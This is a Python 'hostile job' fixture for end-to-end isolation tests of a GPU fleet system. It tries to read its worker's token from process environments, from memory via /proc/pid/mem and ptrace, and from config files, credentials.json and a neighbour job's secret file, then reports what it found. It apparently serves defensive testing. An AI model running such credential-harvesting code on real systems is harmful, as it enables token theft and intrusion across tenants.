"""A hostile job: it tries every way it knows to get its worker's token, and says what it
found. Run by the fleet (tests/e2e/test_hostile_jobs.py) as ``python hostile_job.py
WORKER_PID [NEIGHBOUR_DIR]`` with the standard library only.

Each way is one line of ``outputs/report.json`` and of stdout: ``{"way": ..., "result":
"denied: ..." | "read N bytes" | ..., "found": [...]}``. ``found`` lists every
token-shaped string the way reached, as is and hex-encoded (so no redaction downstream
could hide it); the test asserts its worker's token is in none of it.
"""

import ctypes
import json
import os
import re
import sys

TOKEN = re.compile(rb"gf_[A-Za-z0-9_\-]{20,}")
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
REPORT: list[dict[str, object]] = []


def say(way: str, result: str, data: bytes = b"") -> None:
    hits = sorted({m.decode() for m in TOKEN.findall(data)})
    line = {"way": way, "result": result, "found": hits + [h.encode().hex() for h in hits]}
    if way.startswith("neighbour") and data:
        line["content"] = data.decode("utf-8", "replace")[:200]
    REPORT.append(line)
    print(json.dumps(line), flush=True)


def denied(exc: OSError) -> str:
    return f"denied: {type(exc).__name__} {exc.strerror or exc}"


def read_file(way: str, path: str) -> None:
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 20)
    except OSError as exc:
        say(way, denied(exc))
        return
    say(way, f"read {len(data)} bytes", data)


def read_tree(way: str, top: str) -> None:
    """List a folder and read every file in it (one level deep, then its folders)."""
    try:
        names = os.listdir(top)
    except OSError as exc:
        say(way, denied(exc))
        return
    data = b""
    for root, _, files in os.walk(top):
        for name in files:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    data += f.read(1 << 20)
            except OSError:
                pass
    say(way, f"listed {len(names)} entries, read {len(data)} bytes", data)


def read_memory(way: str, pid: int) -> None:
    """Every readable region of the process's memory, at the addresses its maps gives."""
    try:
        with open(f"/proc/{pid}/maps") as f:
            regions = [line.split()[:2] for line in f]
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as exc:
        say(way, denied(exc))
        return
    data, read = b"", 0
    with open(fd, "rb", buffering=0) as mem:
        for span, perms in regions:
            if not perms.startswith("r"):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                chunk = mem.read(min(end - start, 64 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            read += len(chunk)
            data += b"\n".join(TOKEN.findall(chunk)) + b"\n"
    say(way, f"read {read} bytes of memory", data)


def trace(way: str, pid: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        err = ctypes.get_errno()
        say(way, f"denied: errno {err} {os.strerror(err)}")
        return
    try:
        os.waitpid(pid, 0x40000000)  # __WALL: the tracee stops
        read_memory(way + " (attached)", pid)
    finally:
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    say(way, "attached")


def workers() -> list[int]:
    """Processes that look like a gpufleet worker or its guard, found by scanning /proc."""
    pids = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if (b"gpufleet" in argv and b"worker" in argv) or (b"-I" in argv and b"-S" in argv):
            pids.append(int(name))
    return pids


def main() -> None:
    worker = int(sys.argv[1])
    scanned = workers()
    say("scan", f"worker-like processes {scanned}; worker {worker} among them: {worker in scanned}")
    say("env", "own environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    read_file("proc environ of parent", f"/proc/{os.getppid()}/environ")
    for pid in sorted({worker, *scanned}):
        read_file(f"proc environ of {pid}", f"/proc/{pid}/environ")
        read_memory(f"proc mem of {pid}", pid)
        trace(f"ptrace of {pid}", pid)
    for path in os.environ.get("HOSTILE_FILES", "").split(os.pathsep):
        if path:
            read_tree(f"file {path}", path) if os.path.isdir(path) else read_file(
                f"file {path}", path
            )
    config = os.environ.get("GPUFLEET_CONFIG_DIR")
    if config:
        read_tree(f"config dir {config}", config)
        read_file(f"credentials {config}", os.path.join(config, "credentials.json"))
    work_root = os.path.dirname(os.getcwd())
    read_tree(f"work root {work_root}", work_root)
    if len(sys.argv) > 2:
        neighbour = os.path.join(work_root, sys.argv[2])
        read_tree(f"neighbour dir {neighbour}", neighbour)
        read_file(f"neighbour secret {neighbour}", os.path.join(neighbour, "secret.txt"))
    say("identity", f"uid {os.getuid()} gid {os.getgid()} groups {os.getgroups()}")
    os.makedirs("outputs", exist_ok=True)
    with open("outputs/report.json", "w") as f:
        json.dump(REPORT, f)


if __name__ == "__main__":
    main()
